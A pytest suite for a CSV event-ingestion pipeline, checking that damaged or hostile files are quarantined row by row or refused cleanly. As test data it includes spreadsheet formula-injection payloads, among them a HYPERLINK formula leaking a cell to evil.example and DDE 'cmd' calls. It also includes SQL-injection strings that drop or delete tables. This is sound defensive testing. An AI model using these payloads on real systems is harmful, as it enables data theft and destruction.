"""Hostile and broken input: files that go wrong the way real files do.

Each case states its expected outcome: loaded (with exact counts, every bad row quarantined
with its line, reason and detail, and ``rows read = rows loaded + rows quarantined``) or refused
with a project error whose message says what is wrong, where, and what was expected, leaving
nothing behind. Small cases run on DuckDB and PostgreSQL (the ``engine`` fixture); the 1 GB file
runs once, on DuckDB, in a subprocess that reports its peak memory.

Decision on times before 1971 and after 2100: quarantined as ``time_out_of_range`` with the
value and the accepted range. Behaviour data from before 1971 does not exist (Unix time 0,
1970-01-01, and -1 are what exporters write for "no time"), and times after 2100 are
placeholders (9999-12-31) or milliseconds read as seconds; loading them would stretch every
chart and every time window to centuries. The bounds are inclusive: 1971-01-01 00:00:00 and
2100-01-01 00:00:00 load.
"""
from __future__ import annotations

import datetime as dt
import gzip
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from core import store
from core.errors import SchemaError
from core.present.safecsv import escape_cell
from core.ingest.load import IngestReport, ingest_file
from core.ingest.quarantine import quarantined_rows
from core.ingest.sniff import sniff
from tests import hostile_files as hf

ROOT = Path(__file__).resolve().parents[2]
T = dt.datetime
NUL_SHOWN = "\u2400"
SQL_NAME = "x'; DROP TABLE cs_events; --"


def _counts(engine) -> tuple[int, int, int]:
    with engine.connect() as conn:
        return tuple(conn.execute(sa.select(sa.func.count()).select_from(t)).scalar()
                     for t in (store.datasets, store.events, store.quarantine))


def _events(engine, name: str) -> list[tuple]:
    did = store.get_dataset(engine, name)["dataset_id"]
    e = store.events
    query = (sa.select(e.c.user_id, e.c.event_time, e.c.event_type, e.c.item_id, e.c.category, e.c.brand,
                       e.c.price, e.c.session_id)
             .where(e.c.dataset_id == did).order_by(e.c.event_time, e.c.user_id, e.c.item_id))
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(query).all()]


def _reconciled(engine, report: IngestReport, read: int, loaded: int, by_reason: dict[str, int]) -> None:
    """The exact counts, and the same counts in the store: nothing is lost between file, events and quarantine."""
    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (read, loaded, read - loaded)
    assert report.quarantine_by_reason == by_reason
    ds = store.get_dataset(engine, report.dataset)
    assert (ds["rows_read"], ds["rows_loaded"], ds["rows_quarantined"]) == (read, loaded, read - loaded)
    with engine.connect() as conn:
        n_events = conn.execute(sa.select(sa.func.count()).select_from(store.events)
                                .where(store.events.c.dataset_id == report.dataset_id)).scalar()
    assert n_events == loaded
    assert len(quarantined_rows(engine, report.dataset)) == read - loaded


# --- loaded, with every bad row accounted for ------------------------------------------------------------


def test_ten_thousand_columns(engine, tmp_path):
    path = hf.wide_file(tmp_path)
    sniffed = sniff(path)
    assert len(sniffed.mapping.source_columns) == 10_000 and sniffed.preview.shape[1] == 10_000
    assert sniffed.mapping.columns["user_id"] == "user_id" and sniffed.mapping.confident
    report = ingest_file(engine, path, "wide", mapping=sniffed.mapping)
    _reconciled(engine, report, read=4, loaded=2, by_reason={"duplicate": 1, "truncated_row": 1})
    q = quarantined_rows(engine, "wide")
    assert q[["line_no", "reason"]].values.tolist() == [[4, "duplicate"], [5, "truncated_row"]]
    assert q["detail"][0] == "exact duplicate of an earlier line (line 3)"
    assert "Expected Number of Columns: 10000 Found: 9999" in q["detail"][1]
    # the whole 60 KB line, though DuckDB's reject table keeps only its first 10,000 characters
    assert q["raw_line"][1] == path.read_text().splitlines()[4]
    assert [r[:3] for r in _events(engine, "wide")] == [
        ("u1", T(2024, 1, 1, 10, 0), "view"), ("u2", T(2024, 1, 1, 10, 5), "cart")]


def test_missing_column_in_a_wide_file_lists_a_bounded_number_of_columns(duck_engine, tmp_path):
    path = hf.wide_file(tmp_path)
    mapping = sniff(path).mapping
    mapping.columns["user_id"] = None
    with pytest.raises(SchemaError, match=r"no user column: .* Columns in file: \['user_id', 'event_time', "
                                          r"'event_type', 'x0', .*'x16'\] and 9,980 more$"):
        ingest_file(duck_engine, path, "wide", mapping=mapping)


def test_one_megabyte_lines(engine, tmp_path):
    report = ingest_file(engine, hf.long_line_file(tmp_path), "long")
    _reconciled(engine, report, read=3, loaded=2, by_reason={"truncated_row": 1})
    q = quarantined_rows(engine, "long")
    assert q["line_no"].tolist() == [3]
    assert q["raw_line"][0] == "x" * hf.ONE_MB  # the whole line is kept, not a prefix
    assert "Expected Number of Columns: 4 Found: 1" in q["detail"][0]
    assert [r[:3] for r in _events(engine, "long")] == [
        ("u1", T(2024, 1, 1, 10, 0), "view"), ("u2", T(2024, 1, 1, 10, 1), "purchase")]


@pytest.mark.parametrize(("data_row", "final_newline"), [(6, True), (1, True), (10, False)],
                         ids=["sixth-row", "first-row", "last-row-unterminated"])
def test_a_line_longer_than_the_read_buffer_is_quarantined_not_lost(engine, tmp_path, data_row, final_newline):
    """DuckDB drops a line longer than its 32 MiB buffer without a reject: the line is counted all the same."""
    path, line = hf.long_field_file(tmp_path, data_row, final_newline=final_newline)
    report = ingest_file(engine, path, "long")
    _reconciled(engine, report, read=10, loaded=9, by_reason={"line_too_long": 1})
    q = quarantined_rows(engine, "long")
    assert q["line_no"].tolist() == [data_row + 1]
    assert q["raw_line"][0] == line[:200]
    assert q["detail"][0].startswith(f"line is {len(line):,} bytes long, more than the 2,097,152 bytes (2 MiB) "
                                     "a line may hold")
    items = [r[3] for r in _events(engine, "long")]
    assert items == [str(3_900_000 + n) for n in range(1, 11) if n != data_row]


def test_a_line_over_the_limit_within_the_buffer_is_too_long_too(engine, tmp_path):
    path, line = hf.long_field_file(tmp_path, 3, field_bytes=3_000_000)
    report = ingest_file(engine, path, "long")
    _reconciled(engine, report, read=10, loaded=9, by_reason={"line_too_long": 1})
    assert quarantined_rows(engine, "long")[["line_no", "raw_line"]].values.tolist() == [[4, line[:200]]]


def test_long_lines_in_a_row_between_empty_lines_and_last_without_a_line_break(engine, tmp_path):
    row = [hf.csv_line(hf.rees46_row(n)) for n in range(1, 4)]
    long = hf.csv_line(hf.rees46_row(99, brand="é" * 1_100_000))  # 2.2 MB in UTF-8, 1.1 million characters
    path = tmp_path / "long.csv"
    path.write_text("\n".join([hf.REES46_HEADER, row[0], long, long, "", row[1], "", row[2], long]), encoding="utf-8")
    report = ingest_file(engine, path, "long")
    _reconciled(engine, report, read=6, loaded=3, by_reason={"line_too_long": 3})
    q = quarantined_rows(engine, "long")
    assert q["line_no"].tolist() == [3, 4, 9]
    assert set(q["raw_line"]) == {long[:200]}


def test_a_quoted_field_over_lines_beyond_what_a_row_may_hold_is_refused(duck_engine, tmp_path):
    """Ten lines of 1 MB inside one quoted field: each line is short enough, the row is not (8 MiB)."""
    fields = hf.rees46_row(3)
    fields[4] = '"' + ("x" * 1_000_000 + "\n") * 10 + '"'
    rows = [hf.csv_line(hf.rees46_row(1)), hf.csv_line(hf.rees46_row(2)), ",".join(fields),
            hf.csv_line(hf.rees46_row(4))]
    path = tmp_path / "field.csv"
    path.write_text("\n".join([hf.REES46_HEADER, *rows]) + "\n", encoding="utf-8")
    with pytest.raises(SchemaError, match=r"^field\.csv: 10 of its 15 lines could not be read as rows and counted one "
                                          r"by one: line 4 opens a quoted field that runs over several lines, more "
                                          r"than 8 MiB in all; nothing was loaded\."):
        ingest_file(duck_engine, path, "field")
    assert _counts(duck_engine) == (0, 0, 0)


def test_lines_the_reader_skips_without_a_word_refuse_the_load(duck_engine, tmp_path, monkeypatch):
    """The count of the file's lines catches a line lost between the file and the tables (here, a long line
    taken out for the reader and then not quarantined)."""
    import core.ingest.load

    monkeypatch.setattr(core.ingest.load._Job, "_add_long_lines", lambda self, duck: None)
    path, _ = hf.long_field_file(tmp_path, 3, field_bytes=3_000_000)
    with pytest.raises(SchemaError, match=r"^long-field\.csv: 1 of its 11 lines could not be read as rows and "
                                          r"counted one by one: nothing was loaded\."):
        ingest_file(duck_engine, path, "long")
    assert _counts(duck_engine) == (0, 0, 0)


@pytest.mark.slow
def test_a_quote_left_open_in_a_large_file_is_refused_not_loaded_short(duck_engine, tmp_path):
    """In a file larger than DuckDB's read buffer, a quote left open made it skip 72,000 lines without a word."""
    lines = hf.rees46_text([hf.rees46_row(n) for n in range(1, 400_000)]).split("\n")
    lines[5] = lines[5].replace(",aqua,", ',"aqua,')
    path = tmp_path / "quote.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(SchemaError, match=r"^quote\.csv: .*line 6 opens a quote \(\"\) that is not closed"):
        ingest_file(duck_engine, path, "quote")
    assert _counts(duck_engine) == (0, 0, 0)


@pytest.mark.parametrize("delimiter", [",", "\t", ";", "|"], ids=["comma", "tab", "semicolon", "pipe"])
def test_quoted_fields_over_several_lines_keep_every_line_number(engine, tmp_path, delimiter):
    """Rows with a field over three lines, ragged rows and an empty line near the top: the delimiter is the
    file's, the ragged rows are quarantined, and each quarantined row has the line an editor shows."""
    path = hf.quoted_multiline_file(tmp_path, delimiter)
    assert sniff(path).mapping.delimiter == delimiter
    report = ingest_file(engine, path, "multi")
    _reconciled(engine, report, read=11, loaded=6, by_reason={
        "truncated_row": 2, "duplicate": 1, "non_numeric_price": 1, "too_many_fields": 1})
    q = quarantined_rows(engine, "multi")
    assert q[["line_no", "reason"]].values.tolist() == [
        [8, "truncated_row"], [10, "duplicate"], [11, "non_numeric_price"], [12, "too_many_fields"],
        [16, "truncated_row"]]
    assert q["detail"][1] == "exact duplicate of an earlier line (line 9)"
    assert q["raw_line"][3].count("\n") == 2  # the whole row, over its three lines
    assert [r[4] for r in _events(engine, "multi")].count("multi\nline\ncategory") == 1


def test_nul_bytes_quarantine_their_rows(engine, tmp_path):
    report = ingest_file(engine, hf.nul_file(tmp_path), "nul")
    _reconciled(engine, report, read=5, loaded=3, by_reason={"nul_byte": 2})
    q = quarantined_rows(engine, "nul")
    assert q["line_no"].tolist() == [3, 5]
    assert q["raw_line"][0] == hf.csv_line(hf.rees46_row(2, brand=f"aq{NUL_SHOWN}ua"))
    assert q["detail"][0] == ("column 'brand': the value holds NUL bytes (\\x00), a sign of a damaged file; "
                              "expected text")
    assert q["raw_line"][1] == NUL_SHOWN * 512
    assert q["detail"][1].startswith("line holds NUL bytes (\\x00, shown as \u2400), a sign of a damaged file")
    assert [r[3] for r in _events(engine, "nul")] == ["3900001", "3900003", "3900004"]


@pytest.mark.parametrize("compress", [False, True], ids=["plain", "gzip"])
def test_mixed_line_endings(engine, tmp_path, compress):
    report = ingest_file(engine, hf.mixed_newlines_file(tmp_path, compress=compress), "mixed")
    _reconciled(engine, report, read=7, loaded=5, by_reason={"duplicate": 1, "unparseable_time": 1})
    q = quarantined_rows(engine, "mixed")
    # lines as an editor shows them: a lone CR ends a line too
    assert q.values.tolist() == [
        [6, hf.csv_line(hf.rees46_row(2)), "duplicate", "exact duplicate of an earlier line (line 3)"],
        [7, hf.csv_line(hf.rees46_row(9, time="yesterday")), "unparseable_time",
         "column 'event_time': 'yesterday' is not a time in the expected format (iso)"],
    ]
    assert [r[3] for r in _events(engine, "mixed")] == [str(3_900_000 + n) for n in range(1, 6)]
    assert all("\r" not in (r[7] or "") for r in _events(engine, "mixed"))  # no CR left in the last field


def test_gzip_csv_is_accepted(engine, tmp_path):
    rows = [hf.rees46_row(n, time=f"2019-10-01 00:00:0{n} UTC") for n in range(1, 5)]
    text = hf.rees46_text([*rows, rows[0]]) + "2019-10-01 00:00:09 UTC,view,1,2,a.b,c,1.00,5"
    path = tmp_path / "events.csv.gz"
    path.write_bytes(gzip.compress(text.encode()))
    assert sniff(path).compression == "gzip"
    report = ingest_file(engine, path, "gz")
    _reconciled(engine, report, read=6, loaded=4, by_reason={"duplicate": 1, "truncated_row": 1})
    assert report.layout == "rees46"
    q = quarantined_rows(engine, "gz")
    assert q[["line_no", "reason"]].values.tolist() == [[6, "duplicate"], [7, "truncated_row"]]
    assert q["raw_line"][1] == "2019-10-01 00:00:09 UTC,view,1,2,a.b,c,1.00,5"


FORMULAS = {
    "brand": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "category": "+cmd|' /C calc'!A0",
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "item": "-2+3+cmd|' /C calc'!A0",
    "session": "=1+1",
}


def test_formula_cells_are_stored_as_given_and_exported_escaped(engine, tmp_path):
    rows = [hf.rees46_row(1, brand=FORMULAS["brand"]), hf.rees46_row(2, category=FORMULAS["category"]),
            hf.rees46_row(3, user=FORMULAS["user"], item=FORMULAS["item"], session=FORMULAS["session"])]
    path = tmp_path / "formulas.csv"
    path.write_text(hf.rees46_text(rows), encoding="utf-8")
    report = ingest_file(engine, path, "formulas")
    _reconciled(engine, report, read=3, loaded=3, by_reason={})
    got = _events(engine, "formulas")
    stored = {"brand": got[0][5], "category": got[1][4], "user": got[2][0], "item": got[2][3],
              "session": got[2][7]}
    assert stored == {**FORMULAS, "brand": FORMULAS["brand"].lower()}  # brands are lower-cased, nothing else
    for value in stored.values():  # every export writes text cells through escape_cell
        assert escape_cell(value) == "'" + value
    assert escape_cell("-2.5") == "-2.5"  # a number stays a number


def test_leading_zeros_stay(engine, tmp_path):
    rows = [hf.rees46_row(1, user="007", item="000123", category_id="0042", category="", session="0001",
                          price="007.50"),
            hf.rees46_row(2, user="0070", item="0", category_id="00", category="", session="00")]
    path = tmp_path / "zeros.csv"
    path.write_text(hf.rees46_text(rows), encoding="utf-8")
    report = ingest_file(engine, path, "zeros")
    _reconciled(engine, report, read=2, loaded=2, by_reason={})
    got = _events(engine, "zeros")
    assert [(r[0], r[3], r[4], r[7]) for r in got] == [("007", "000123", "0042", "0001"), ("0070", "0", "00", "00")]
    assert got[0][6] == pytest.approx(7.5)
    assert report.users == 2  # '007' and '0070' are two shoppers


REES46_TIMES = [  # (time, loaded?)
    ("1969-12-31 23:59:59 UTC", False), ("1970-01-01 00:00:00 UTC", False), ("1971-01-01 00:00:00 UTC", True),
    ("2019-10-01 00:00:00 UTC", True), ("2100-01-01 00:00:00 UTC", True), ("2100-01-01 00:00:01 UTC", False),
    ("9999-12-31 23:59:59 UTC", False), ("0001-01-01 00:00:00 UTC", False),
]


def test_times_before_1971_and_after_2100_are_quarantined(engine, tmp_path):
    rows = [hf.rees46_row(n, time=t) for n, (t, _) in enumerate(REES46_TIMES)]
    path = tmp_path / "times.csv"
    path.write_text(hf.rees46_text(rows), encoding="utf-8")
    report = ingest_file(engine, path, "times")
    _reconciled(engine, report, read=8, loaded=3, by_reason={"time_out_of_range": 5})
    assert (report.first_event, report.last_event) == (T(1971, 1, 1), T(2100, 1, 1))
    q = quarantined_rows(engine, "times")
    assert q["line_no"].tolist() == [n + 2 for n, (_, ok) in enumerate(REES46_TIMES) if not ok]
    assert q["detail"][0] == ("column 'event_time': '1969-12-31 23:59:59 UTC' is outside the plausible range; "
                              "expected a time from 1971-01-01 to 2100-01-01")


def test_unix_times_out_of_range_or_overflowing_are_quarantined(engine, tmp_path):
    odd = ["-1", "0", "4102444801", "99999999999999", "1e300", "-99999999999999"]
    good = [str(1_706_778_000 + i) for i in range(10)]
    lines = [f"u{i},{t},view" for i, t in enumerate(good + odd)]
    path = tmp_path / "unix.csv"
    path.write_text("user_id,timestamp,event_type\n" + "\n".join(lines) + "\n")
    mapping = sniff(path).mapping
    assert mapping.time_format == "unix_s"
    report = ingest_file(engine, path, "unix", mapping=mapping)
    _reconciled(engine, report, read=16, loaded=10, by_reason={"time_out_of_range": 6})
    assert quarantined_rows(engine, "unix")["raw_line"].tolist() == [f"u{10 + i},{t},view" for i, t in enumerate(odd)]


def test_every_row_the_same(engine, tmp_path):
    path = tmp_path / "same.csv"
    path.write_text(hf.rees46_text([hf.rees46_row(1)] * 1_000), encoding="utf-8")
    report = ingest_file(engine, path, "same")
    _reconciled(engine, report, read=1_000, loaded=1, by_reason={"duplicate": 999})
    q = quarantined_rows(engine, "same")
    assert q["line_no"].tolist() == list(range(3, 1_002))
    assert set(q["detail"]) == {"exact duplicate of an earlier line (line 2)"}
    assert set(q["raw_line"]) == {hf.csv_line(hf.rees46_row(1))}


def test_file_appended_to_itself(engine, tmp_path):
    once = hf.rees46_text([hf.rees46_row(n) for n in range(1, 5)])
    path = tmp_path / "twice.csv"
    path.write_text(once + once, encoding="utf-8")  # `cat a.csv a.csv`: the header comes again as a row
    report = ingest_file(engine, path, "twice")
    _reconciled(engine, report, read=9, loaded=4, by_reason={"duplicate": 4, "unparseable_time": 1})
    q = quarantined_rows(engine, "twice")
    assert q[["line_no", "reason"]].values.tolist() == [
        [6, "unparseable_time"], [7, "duplicate"], [8, "duplicate"], [9, "duplicate"], [10, "duplicate"]]
    assert q["raw_line"][0] == hf.REES46_HEADER
    assert q["detail"][1:].tolist() == [f"exact duplicate of an earlier line (line {n})" for n in range(2, 6)]


def test_sql_in_dataset_name_and_column_headers(engine, tmp_path):
    keep = tmp_path / "keep.csv"
    keep.write_text(hf.rees46_text([hf.rees46_row(1)]), encoding="utf-8")
    ingest_file(engine, keep, "keep")
    user_col, time_col = 'user_id"; DROP TABLE cs_events;--', "event_time'); DELETE FROM cs_datasets; --"
    path = tmp_path / "sql.csv"
    path.write_text(f"{user_col},{time_col},event_type,item_id\n"  # written raw, as a hostile exporter would
                    "u1,2024-01-01 10:00:00,view,i1\n,2024-01-01 10:01:00,view,i2\nu2,2024-01-01 10:02:00,cart,i1\n")
    mapping = sniff(path).mapping
    assert mapping.source_columns == [user_col, time_col, "event_type", "item_id"]
    with pytest.raises(SchemaError, match=r"no user column: expected one of user_id, .*Columns in file: "
                                          r"\['user_id\"; DROP TABLE cs_events;--', "):
        ingest_file(engine, path, SQL_NAME, mapping=mapping)
    mapping.columns.update(user_id=user_col, event_time=time_col)
    mapping.time_format = "iso"
    report = ingest_file(engine, path, SQL_NAME, mapping=mapping)
    _reconciled(engine, report, read=3, loaded=2, by_reason={"missing_user": 1})
    assert quarantined_rows(engine, SQL_NAME)["detail"].tolist() == [
        "column 'user_id\"; DROP TABLE cs_events;--' is empty; expected a user id"]
    assert {d["name"] for d in store.list_datasets(engine)} == {"keep", SQL_NAME}
    assert _counts(engine) == (2, 3, 1)  # cs_events and cs_datasets are whole: 1 + 2 events, both datasets
    assert [r[0] for r in _events(engine, "keep")] == ["500000001"]


# --- refused, with the reason, and nothing written -----------------------------------------------------------


def _zip_with_csv() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("2019-Oct.csv", hf.rees46_text([hf.rees46_row(1)]))
    return buf.getvalue()


def _truncated_gzip() -> bytes:
    data = gzip.compress(hf.rees46_text([hf.rees46_row(n) for n in range(20_000)]).encode())
    return data[: len(data) // 2]  # a download that stopped half way


def _unclosed_quote() -> bytes:
    rows = [hf.rees46_row(n) for n in range(1, 40)]
    text = hf.rees46_text(rows[:30]) + hf.csv_line(rows[30]).replace(",aqua,", ',"aqua,') + "\n"
    return (text + "".join(hf.csv_line(r) + "\n" for r in rows[31:])).encode()


REFUSED = [
    ("old.csv", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
     r"^old\.csv is an old Office document \(Word, PowerPoint\) or a damaged Excel 97-2003 workbook \(\.xls\), "
     r"not a CSV file"),
    ("archive.csv", _zip_with_csv,
     r"^archive\.csv is a ZIP archive holding 2019-Oct\.csv, not a CSV file \(was it renamed\?\); expected a "
     r"CSV/TSV file of events: unzip it and upload the file inside \(a \.csv\.gz file is read as it is\)$"),
    ("one-line.csv", lambda: ("user_id,event_time,event_type," + ",".join(f"c{i}" for i in range(130_000))).encode(),
     r"^one-line\.csv: its first line is longer than 256 KiB \(no line break found\), so it is no header row; "
     r"expected a header row and then one event per line$"),
    ("cut.csv.gz", _truncated_gzip,
     r"^cut\.csv\.gz could not be read to the end \(Compressed file ended before the end-of-stream marker was "
     r"reached\); expected a complete file"),
    ("zeros.csv", lambda: bytes(4096),
     r"^zeros\.csv looks like a binary file \(it contains NUL bytes\), not a delimited text file"),
    ("quote.csv", _unclosed_quote,
     r"^quote\.csv: line 32 opens a quote \(\"\) that is not closed on that line, so the lines after it \(up to "
     r"the next quote or the end of the file\) were read as one field .* fix or remove that quote and load again\. "
     r"Line 32 begins: '2019-10-01 00:00:00 UTC,view,3900031,"),
]


@pytest.mark.parametrize(("name", "build", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_with_the_reason_and_nothing_written(duck_engine, tmp_path, name, build, message):
    path = tmp_path / name
    path.write_bytes(build())
    with pytest.raises(SchemaError, match=message):
        ingest_file(duck_engine, path, SQL_NAME)
    assert _counts(duck_engine) == (0, 0, 0)


def test_refusal_inside_the_load_leaves_nothing_on_postgres_either(engine, tmp_path):
    """The other refusals come before the store is touched; this one comes mid-transaction."""
    path = tmp_path / "quote.csv"
    path.write_bytes(_unclosed_quote())
    with pytest.raises(SchemaError, match=r"^quote\.csv: line 32 opens a quote"):
        ingest_file(engine, path, SQL_NAME)
    assert _counts(engine) == (0, 0, 0)
    ingest_file(engine, hf.nul_file(tmp_path), SQL_NAME)  # and the name is still free
    assert _counts(engine) == (1, 3, 2)


def test_generated_workbook_is_a_real_xlsx(tmp_path):
    """The renamed-Excel case is only worth its name if Excel's own readers open the file."""
    import openpyxl

    data = hf.xlsx_bytes([hf.REES46_COLUMNS, hf.rees46_row(1)])
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.testzip() is None
        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"} <= set(zf.namelist())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[2]] == hf.rees46_row(1)


def test_excel_workbook_renamed_csv_is_loaded_from_its_first_worksheet(engine, tmp_path):
    """The content decides, not the name: a workbook saved as events.csv loads as its rows (tests/test_workbook.py)."""
    rows = [hf.rees46_row(1), hf.rees46_row(2, event="purchase"), hf.rees46_row(1), hf.rees46_row(3, price="-1")]
    path = tmp_path / "events.csv"
    path.write_bytes(hf.xlsx_bytes([hf.REES46_COLUMNS, *rows]))
    report = ingest_file(engine, path, "renamed")
    _reconciled(engine, report, read=4, loaded=2, by_reason={"duplicate": 1, "negative_price": 1})
    assert report.layout == "rees46" and report.notes[0].startswith("an Excel workbook: its first worksheet 'events'")
    q = quarantined_rows(engine, "renamed")
    assert q[["line_no", "reason"]].values.tolist() == [[4, "duplicate"], [5, "negative_price"]]


# --- 1 GB and more ---------------------------------------------------------------------------------------------

_BIG_INGEST = """
import json, resource, sys, time
from core import store
from core.ingest.load import ingest_file
engine = store.make_engine(sys.argv[2])
started = time.perf_counter()
report = ingest_file(engine, sys.argv[1], "big")
seconds = time.perf_counter() - started
engine.dispose()
peak_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
print(json.dumps({"report": report.to_dict(), "seconds": seconds, "peak_bytes": peak_kib * 1024}))
"""
#: the 1 GB ingest's peak resident memory must stay below this (measured: about 1.8 GB, DuckDB's
#: staging of 7.9 million rows); reading the file into Python or pandas would take several times more
BIG_PEAK_LIMIT_BYTES = 3 * 1024**3


@pytest.mark.slow
def test_one_gigabyte_file_loads_with_exact_counts_and_bounded_memory(tmp_path):
    big = hf.write_big_rees46(tmp_path, min_bytes=1024**3)
    db = tmp_path / "big.duckdb"
    try:
        assert big.size_bytes == big.path.stat().st_size >= 1024**3
        done = subprocess.run(
            [sys.executable, "-c", _BIG_INGEST, str(big.path), f"duckdb:///{db}"], capture_output=True, text=True,
            cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, check=False)
        assert done.returncode == 0, done.stderr[-3000:]
        result = json.loads(done.stdout.strip().splitlines()[-1])
        report = result["report"]
        assert (report["rows_read"], report["rows_loaded"], report["rows_quarantined"]) == (
            big.rows_read, big.rows_loaded, big.rows_quarantined)
        assert report["rows_read"] == report["rows_loaded"] + report["rows_quarantined"]
        assert report["quarantine_by_reason"] == {"duplicate": big.duplicates, "non_numeric_price": big.bad_prices,
                                                  "truncated_row": 1}
        assert report["users"] == big.users
        assert report["events_by_type"]["purchase"] == big.purchases
        assert sum(report["events_by_type"].values()) == big.rows_loaded
        assert result["peak_bytes"] < BIG_PEAK_LIMIT_BYTES, f"peak {result['peak_bytes'] / 1e9:.2f} GB"
        engine = store.make_engine(f"duckdb:///{db}")
        try:
            with engine.connect() as conn:
                assert conn.execute(sa.select(sa.func.count()).select_from(store.events)).scalar() == big.rows_loaded
            q = quarantined_rows(engine, "big")
            first_data_line, block_end = 2, 1 + big.rows_per_block
            assert q["line_no"].tolist() == [
                *range(block_end + 1, block_end + 1 + big.duplicates + big.bad_prices), big.rows_read + 1]
            assert q["detail"].tolist()[: big.duplicates] == [
                f"exact duplicate of an earlier line (line {first_data_line})"] * big.duplicates
        finally:
            engine.dispose()
        print(f"\n1 GB ingest: {big.size_bytes / 1e9:.2f} GB, {big.rows_read:,} rows, {result['seconds']:.1f} s, "
              f"peak {result['peak_bytes'] / 1e9:.2f} GB")
    finally:
        for leftover in tmp_path.glob("*"):  # pytest keeps tmp folders of recent runs: do not keep 1 GB
            leftover.unlink()


# --- through the Data page ---------------------------------------------------------------------------------


def _data_page(monkeypatch, tmp_path):
    from streamlit.testing.v1 import AppTest

    from tests.e2e_support import APPTEST_TIMEOUT_S, isolated_store

    url = isolated_store(monkeypatch, tmp_path)
    return AppTest.from_file(str(ROOT / "pages" / "data.py"), default_timeout=APPTEST_TIMEOUT_S).run(), url


def test_data_page_loads_a_renamed_workbook(monkeypatch, tmp_path):
    from tests.e2e_support import run_until

    at, url = _data_page(monkeypatch, tmp_path)
    data = hf.xlsx_bytes([hf.REES46_COLUMNS, hf.rees46_row(1), hf.rees46_row(2)])
    at.file_uploader[0].set_value(("October events.csv", data, "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    shown = [c.value.replace("\\", "") for c in at.caption]  # markdown escapes taken off
    assert any(c.startswith("• an Excel workbook: its first worksheet 'events' is read") for c in shown), shown
    at.button(key="data_load").click().run()
    run_until(at, lambda: any(m.label == "Rows loaded" for m in at.metric) or bool(at.error))
    assert not at.error, [e.value for e in at.error]
    assert {m.label: m.value for m in at.metric}["Rows loaded"] == "2"
    engine = store.make_engine(url)
    assert _counts(engine) == (1, 2, 0)
    engine.dispose()


def test_data_page_loads_a_damaged_file_and_reconciles(monkeypatch, tmp_path):
    from tests.e2e_support import run_until

    at, url = _data_page(monkeypatch, tmp_path)
    data = hf.mixed_newlines_file(tmp_path).read_bytes().replace(b",aqua,", b",aq\x00ua,", 1)  # and a NUL byte
    at.file_uploader[0].set_value(("damaged.csv", data, "text/csv")).run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    at.button(key="data_load").click().run()
    run_until(at, lambda: any(m.label == "Rows read" for m in at.metric) or bool(at.error))
    assert not at.error, [e.value for e in at.error]
    tiles = {m.label: m.value for m in at.metric}
    assert (tiles["Rows read"], tiles["Rows loaded"], tiles["Rows quarantined"]) == ("7", "4", "3")
    assert "rows read = rows loaded + rows quarantined: 7 = 4 + 3" in at.success[0].value
    engine = store.make_engine(url)
    q = quarantined_rows(engine, "damaged")
    engine.dispose()
    assert q[["line_no", "reason"]].values.tolist() == [[2, "nul_byte"], [6, "duplicate"], [7, "unparseable_time"]]
